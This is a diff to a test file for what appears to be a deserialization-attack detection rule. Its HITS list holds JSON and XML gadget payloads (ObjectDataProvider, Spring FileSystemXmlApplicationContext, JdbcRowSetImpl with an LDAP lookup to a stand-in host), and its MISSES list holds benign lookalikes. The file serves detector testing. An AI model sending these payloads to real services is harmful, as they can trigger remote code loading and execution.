@@ -188,6 +188,7 @@ HITS = [
     (20813, _json('{"payload": {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework",'
                   ' "MethodName": "Start"}}')),
     (20813, _json('{"x": {"@class": "org.springframework.context.support.FileSystemXmlApplicationContext"}}')),
+    (20813, _json('{"y": {"@type": "Lcom.sun.rowset.JdbcRowSetImpl;", "dataSourceName": "ldap://198.51.100.7/x"}}')),
     (20814, _body("application/xml", b'<?xml version="1.0"?><java version="1.8"><object class="java.net.URL">'
                                      b'<string>http://198.51.100.7/</string></object></java>')),
 ]
@@ -279,6 +280,7 @@ MISSES = [
           'DwABBAEAwS2OUAAAAABJRU5ErkJggg=="}'),
     _json('{"@context": "https://schema.org", "@type": "Person", "name": "Ann Lee"}'),
     _json('{"logger": "com.example.billing.InvoiceService", "level": "WARN"}'),
+    _json('{"order": {"@class": "com.example.billing.Invoice", "total": 12.5}}'),   # Jackson's own DTO types
     _body("application/xml", b'<?xml version="1.0"?><beans><bean id="mailer" class="com.example.mail.Sender"/>'
                              b'</beans>'),
     _body("application/xml", b'<?xml version="1.0"?><project><dependencies><dependency><groupId>org.apache.commons'
